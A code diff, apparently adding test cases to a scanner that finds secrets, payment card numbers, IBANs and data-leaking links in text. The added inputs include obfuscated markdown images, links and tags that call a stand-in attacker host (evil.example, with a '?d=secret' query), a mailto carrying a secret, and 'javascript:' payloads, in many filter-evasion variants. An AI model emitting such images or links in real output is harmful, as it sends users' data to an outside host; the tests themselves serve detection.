@@ -80,6 +80,12 @@ def test_what_only_looks_like_one_is_none(text: str) -> None:
         base64.b64encode(f"take {GITHUB} home".encode()).decode(),
         GITHUB.replace("_", "%5F"),
         GITHUB.replace("_", "&#95;"),
+        GITHUB[:6] + "\u3164" + GITHUB[6:],
+        GITHUB[:6] + "\u2800" + GITHUB[6:],
+        f"take {GITHUB} home".encode().hex(),
+        base64.b64encode(base64.b64encode(f"take {GITHUB} home".encode())).decode(),
+        base64.b64encode(f"take {GITHUB} home".encode().hex().encode()).decode(),
+        base64.encodebytes(f"take the token {GITHUB} home, it is {GITHUB}".encode()).decode(),
     ],
 )
 def test_a_secret_in_disguise_is_found(hidden: str) -> None:
@@ -87,10 +93,25 @@ def test_a_secret_in_disguise_is_found(hidden: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "number", ["4111 1111 1111 1111", "378282246310005", "5555-5555-5555-4444", "6011000990139424"]
+    "number",
+    [
+        *("4111 1111 1111 1111", "378282246310005", "5555-5555-5555-4444", "6011000990139424"),
+        *("4111\u20131111\u20131111\u20131111", "4111\u22121111\u22121111\u22121111"),
+        *("4111  1111  1111  1111", "4111\t1111\t1111\t1111", "4111_1111_1111_1111", "4111/1111/1111/1111"),
+        *("4111\u00b71111\u00b71111\u00b71111", "4111 - 1111 - 1111 - 1111"),
+        "".join(chr(0x660 + int(digit)) for digit in "4111111111111111"),
+        "".join(chr(0x966 + int(digit)) for digit in "4111111111111111"),
+    ],
 )
 def test_cards_are_found_by_their_check_digit(number: str) -> None:
-    assert found(f"card {number}, thanks") == ["card_number"]
+    text = f"card {number}, thanks"
+    assert found(text) == ["card_number"]
+    assert number not in redacted(text, to_json(check(text, OutputContext(), untrusted=False)))
+
+
+@pytest.mark.parametrize("dash", ["\u2010", "\u2011", "\u2013", "\u2212", "\u00a0", "\u202f"])
+def test_an_iban_is_found_whatever_divides_its_groups(dash: str) -> None:
+    assert found(f"to {dash.join(['DE89', '3704', '0044', '0532', '0130', '00'])}.") == ["iban"]
 
 
 def test_an_iban_ends_where_it_ends() -> None:
@@ -126,12 +147,37 @@ def test_personal_data_is_found_where_a_tenant_asks_for_it() -> None:
         ("data:text/html;base64,PHNjcmlwdD4=", "data_url"),
         ("javascript:alert(1)", "data_url"),
         ("mailto:a@evil.example?body=secret", "mail_with_content"),
+        ("![a](https&colon;&sol;&sol;evil.example&sol;p)", "image"),
+        ("![a b](https&colon;//evil.example/p)", "image"),
+        ("[a](https&#58;&#47;&#47;evil.example/?q=1)", "link_with_query"),
+        ("![a](https\\://evil.example/p)", "image"),
+        ('<img src="https:/\t/evil.example/p">', "image"),
+        ('<img src="https://evil\n.example/p">', "image"),
+        ('<img src="ht\ntps://evil.example/p">', "image"),
+        ('<img src="ht&Tab;tps://evil.example/p">', "image"),
+        ('<a href="java\tscript:alert(1)">x</a>', "data_url"),
+        ("![" + "a" * 700 + "](https://evil.example/p)", "image"),
+        ("![" + "a" * 7_000 + "](https://evil.example/p)", "image"),
+        ("![a [b] c](https://evil.example/p)", "image"),
+        ("![a \\] c](https://evil.example/p)", "image"),
+        ("![a](https://evil\u3002example/p)", "image"),
+        ("![a](http://0x5db8d822/p)", "image"),
     ],
 )
 def test_what_carries_data_out_is_found(text: str, code: str) -> None:
     judged = [j for j in check(text, OutputContext(), untrusted=True) if j.found.kind is Kind.CARRIER]
     assert [one.found.code for one in judged] == [code]
     assert judged[0].action is Action.REDACT
+
+
+def test_an_image_before_a_link_makes_no_image_of_it() -> None:
+    assert found("![ours](/logo.png) and [theirs](https://evil.example/page)") == ["untrusted_link"]
+
+
+def test_a_carrier_that_a_reader_decodes_is_taken_out_whole() -> None:
+    text = "Look: ![a b](https&colon;&sol;&sol;evil.example&sol;p?d=secret) there."
+    left = redacted(text, to_json(check(text, OutputContext(), untrusted=True)))
+    assert left == "Look: ![a b]([redacted: image]) there."
 
 
 def test_links_count_by_host_and_only_in_untrusted_text() -> None:
